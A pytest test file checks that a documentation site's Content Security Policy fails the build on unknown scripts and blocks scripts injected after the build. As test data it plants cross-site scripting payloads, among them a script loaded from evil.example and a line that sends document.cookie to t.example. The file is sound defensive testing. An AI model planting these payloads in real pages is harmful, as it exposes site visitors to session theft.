"""The CSP allows only the scripts the site ships; any other script fails the build, and a
script injected into a served page does not run."""

from __future__ import annotations

import re
import shutil
from importlib.util import find_spec
from pathlib import Path
from typing import Any

import pytest

from macros.check.browser import CSP_LISTENER, serve
from macros.errors import SiteErrors
from macros.plugin.csp import MARKDOWN_ALIGNMENTS, digest, inline_script_hashes, theme_scripts
from tests.conftest import Build, run_build

MATERIAL_TEMPLATES = Path(find_spec("material").origin).parent / "templates"
SCOPE_SCRIPT = (
    '__md_scope=new URL("../..",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.'
    "charCodeAt(0)),0),__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t."
    'pathname+"."+e)),__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+'
    '"."+e,JSON.stringify(_))}catch(e){}}'
)


def site_with(tmp_path: Path, body: str) -> Path:
    page = tmp_path / "site" / "about" / "index.html"
    page.parent.mkdir(parents=True)
    page.write_text(f"<!doctype html><html><head></head><body>{body}</body></html>")
    return tmp_path / "site"


def test_the_themes_inline_scripts_are_known_by_their_content(tmp_path: Path) -> None:
    site = site_with(
        tmp_path,
        f"<script>{SCOPE_SCRIPT}</script>"
        '<script id="__config" type="application/json">{"base": ".."}</script>'
        '<script src="../assets/js/ipt.js"></script>',
    )
    hashes = inline_script_hashes(site, theme_scripts([MATERIAL_TEMPLATES]), {})
    assert hashes == [digest(SCOPE_SCRIPT)]


@pytest.mark.parametrize(
    "planted",
    [
        "<script>alert(1)</script>",
        "<SCRIPT>alert(1)</SCRIPT>",
        '<script type="module">alert(1)</script>',
        '<script src="https://evil.example/x.js"></script>',
        "<svg><script>alert(1)</script></svg>",
        "<script>" + SCOPE_SCRIPT.replace("../..", '"+alert(1)+"') + "</script>",
        '<script id="__config" type="application/json"></script><script>alert(1)</script>',
    ],
)
def test_any_other_script_fails_naming_the_page(tmp_path: Path, planted: str) -> None:
    site = site_with(tmp_path, planted)
    with pytest.raises(SiteErrors) as raised:
        inline_script_hashes(
            site, theme_scripts([MATERIAL_TEMPLATES]), {"about/index.html": "docs/about/index.md"}
        )
    assert str(raised.value).startswith(
        "docs/about/index.md: the built page contains a script the site does not ship"
    )


def test_a_script_in_a_template_override_fails_the_build(project: Path) -> None:
    """One build: the project's own scripts are files; an inline one is not hashed."""
    main = project / "docs" / "overrides" / "main.html"
    main.write_text(
        main.read_text(encoding="utf-8")
        + '\n{% block extrahead %}<script>fetch("https://t.example/?" + document.cookie)</script>'
        "{% endblock %}\n",
        encoding="utf-8",
    )
    build = run_build(project, project / "site")
    assert build.returncode != 0
    assert "docs/about/index.md: the built page contains a script the site does not ship" in (
        build.output
    )
    assert not (project / "site").exists()


def test_only_markdowns_table_alignments_are_allowed_as_style_attributes(built: Build) -> None:
    config = (built.site / "security-headers.conf").read_text()
    styles = re.search(r"style-src ([^;]*);", config).group(1).split()
    assert styles == ["'self'", "'unsafe-hashes'", *map(digest, MARKDOWN_ALIGNMENTS)]


@pytest.mark.browser
def test_an_injected_script_does_not_run_under_the_sites_policy(
    built: Build, browser: Any, tmp_path: Path
) -> None:
    """A copy of the built site, served with its own headers, with scripts injected into a
    page after the build (as if the checks had missed them)."""
    site = shutil.copytree(built.site, tmp_path / "site")
    page = site / "about" / "index.html"
    injected = (
        "<script>window.__injected = 'inline'</script>"
        '<img src="data:," alt="" onerror="window.__injected = \'handler\'">'
        "<a id=injected-link href=\"javascript:window.__injected='link'\">x</a>"
    )
    page.write_text(page.read_text().replace("</article>", injected + "</article>"))
    context = browser.new_context()
    tab = context.new_page()
    tab.add_init_script(CSP_LISTENER)
    with serve(site) as url:
        tab.goto(url + "about/")
        tab.click("#injected-link")
        tab.wait_for_timeout(300)
        injected_ran = tab.evaluate("window.__injected || null")
        violations = tab.evaluate("window.__cspViolations")
        theme_ran = tab.evaluate("typeof __md_get === 'function'")
    context.close()
    assert injected_ran is None
    assert sum("script-src" in violation for violation in violations) >= 3, violations
    assert theme_ran, "the theme's own inline scripts must still run"
